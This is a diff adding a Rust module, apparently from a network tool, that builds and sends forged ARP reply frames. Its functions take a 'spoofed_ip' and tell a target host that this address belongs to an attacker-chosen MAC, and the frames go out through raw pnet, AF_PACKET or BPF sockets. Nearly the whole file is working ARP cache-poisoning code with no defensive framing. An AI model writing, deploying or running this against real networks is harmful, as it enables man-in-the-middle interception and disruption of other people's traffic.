@@ -0,0 +1,160 @@
+use std::net::Ipv4Addr;
+
+/// Size of an Ethernet II header followed by an IPv4-over-Ethernet ARP payload
+pub const ARP_FRAME_LEN: usize = 42;
+
+const ETHERTYPE_ARP: u16 = 0x0806;
+const ARP_HTYPE_ETHERNET: u16 = 1;
+const ARP_PTYPE_IPV4: u16 = 0x0800;
+const ARP_OPER_REPLY: u16 = 2;
+
+/// Destination of frames meant for every host on the segment
+pub const BROADCAST_MAC: &str = "ff:ff:ff:ff:ff:ff";
+
+/// Parse a MAC address in `aa:bb:cc:dd:ee:ff` or `aa-bb-cc-dd-ee-ff` form
+pub fn parse_mac(mac: &str) -> Option<[u8; 6]> {
+    let parts: Vec<&str> = mac.split(|c| c == ':' || c == '-').collect();
+    if parts.len() != 6 {
+        return None;
+    }
+
+    let mut bytes = [0u8; 6];
+    for (i, part) in parts.iter().enumerate() {
+        bytes[i] = u8::from_str_radix(part, 16).ok()?;
+    }
+
+    Some(bytes)
+}
+
+/// Build an Ethernet frame carrying an ARP reply claiming `spoofed_ip` is at `source_mac`
+pub fn build_arp_reply(
+    source_mac: [u8; 6],
+    spoofed_ip: Ipv4Addr,
+    target_mac: [u8; 6],
+    target_ip: Ipv4Addr,
+) -> [u8; ARP_FRAME_LEN] {
+    let mut frame = [0u8; ARP_FRAME_LEN];
+
+    // Ethernet header
+    frame[0..6].copy_from_slice(&target_mac);
+    frame[6..12].copy_from_slice(&source_mac);
+    frame[12..14].copy_from_slice(&ETHERTYPE_ARP.to_be_bytes());
+
+    // ARP payload
+    frame[14..16].copy_from_slice(&ARP_HTYPE_ETHERNET.to_be_bytes());
+    frame[16..18].copy_from_slice(&ARP_PTYPE_IPV4.to_be_bytes());
+    frame[18] = 6;
+    frame[19] = 4;
+    frame[20..22].copy_from_slice(&ARP_OPER_REPLY.to_be_bytes());
+    frame[22..28].copy_from_slice(&source_mac);
+    frame[28..32].copy_from_slice(&spoofed_ip.octets());
+    frame[32..38].copy_from_slice(&target_mac);
+    frame[38..42].copy_from_slice(&target_ip.octets());
+
+    frame
+}
+
+/// Sends raw ARP frames on a capture device opened for one interface
+#[cfg(feature = "raw-packets")]
+pub struct RawArpSender {
+    tx: Box<dyn pnet::datalink::DataLinkSender>,
+}
+
+#[cfg(feature = "raw-packets")]
+impl RawArpSender {
+    /// Open the capture device whose hardware address matches `local_mac`
+    pub fn open(local_mac: &str) -> Result<Self, String> {
+        use pnet::datalink::{self, Channel};
+
+        let mac_bytes = parse_mac(local_mac)
+            .ok_or_else(|| format!("Invalid interface MAC: {}", local_mac))?;
+
+        let interface = datalink::interfaces()
+            .into_iter()
+            .find(|iface| iface.mac.map(|mac| mac.octets() == mac_bytes).unwrap_or(false))
+            .ok_or_else(|| format!("No capture device found for MAC {}", local_mac))?;
+
+        match datalink::channel(&interface, Default::default()) {
+            Ok(Channel::Ethernet(tx, _rx)) => Ok(Self { tx }),
+            Ok(_) => Err(format!("Unsupported channel type on {}", interface.name)),
+            Err(e) => Err(format!("Failed to open capture device {}: {}", interface.name, e)),
+        }
+    }
+
+    /// Send an ARP reply telling `target_ip` that `spoofed_ip` is at `source_mac`
+    pub fn send_arp_reply(
+        &mut self,
+        source_mac: &str,
+        spoofed_ip: Ipv4Addr,
+        target_mac: &str,
+        target_ip: Ipv4Addr,
+    ) -> Result<(), String> {
+        let source = parse_mac(source_mac)
+            .ok_or_else(|| format!("Invalid source MAC: {}", source_mac))?;
+        let target = parse_mac(target_mac)
+            .ok_or_else(|| format!("Invalid target MAC: {}", target_mac))?;
+
+        let frame = build_arp_reply(source, spoofed_ip, target, target_ip);
+
+        match self.tx.send_to(&frame, None) {
+            Some(Ok(())) => Ok(()),
+            Some(Err(e)) => Err(format!("Failed to send ARP frame: {}", e)),
+            None => Err("Capture device did not accept the ARP frame".to_string()),
+        }
+    }
+}
+
+/// Sends raw ARP frames through an `AF_PACKET` socket on Linux or a BPF device
+/// on macOS, neither of which needs a capture library
+#[cfg(all(any(target_os = "linux", target_os = "macos"), not(feature = "raw-packets")))]
+pub struct RawArpSender {
+    socket: crate::platform::PacketSocket,
+}
+
+#[cfg(all(any(target_os = "linux", target_os = "macos"), not(feature = "raw-packets")))]
+impl RawArpSender {
+    /// Open a packet socket on the interface whose hardware address matches `local_mac`
+    pub fn open(local_mac: &str) -> Result<Self, String> {
+        let mac_bytes = parse_mac(local_mac)
+            .ok_or_else(|| format!("Invalid interface MAC: {}", local_mac))?;
+
+        Ok(Self { socket: crate::platform::PacketSocket::open(mac_bytes)? })
+    }
+
+    /// Send an ARP reply telling `target_ip` that `spoofed_ip` is at `source_mac`
+    pub fn send_arp_reply(
+        &mut self,
+        source_mac: &str,
+        spoofed_ip: Ipv4Addr,
+        target_mac: &str,
+        target_ip: Ipv4Addr,
+    ) -> Result<(), String> {
+        let source = parse_mac(source_mac)
+            .ok_or_else(|| format!("Invalid source MAC: {}", source_mac))?;
+        let target = parse_mac(target_mac)
+            .ok_or_else(|| format!("Invalid target MAC: {}", target_mac))?;
+
+        self.socket.send(&build_arp_reply(source, spoofed_ip, target, target_ip))
+    }
+}
+
+/// Placeholder used when the crate is built without raw packet support
+#[cfg(all(not(any(target_os = "linux", target_os = "macos")), not(feature = "raw-packets")))]
+pub struct RawArpSender;
+
+#[cfg(all(not(any(target_os = "linux", target_os = "macos")), not(feature = "raw-packets")))]
+impl RawArpSender {
+    pub fn open(_local_mac: &str) -> Result<Self, String> {
+        Err("Raw packet support not compiled in (enable the `raw-packets` feature)".to_string())
+    }
+
+    pub fn send_arp_reply(
+        &mut self,
+        _source_mac: &str,
+        _spoofed_ip: Ipv4Addr,
+        _target_mac: &str,
+        _target_ip: Ipv4Addr,
+    ) -> Result<(), String> {
+        Err("Raw packet support not compiled in".to_string())
+    }
+}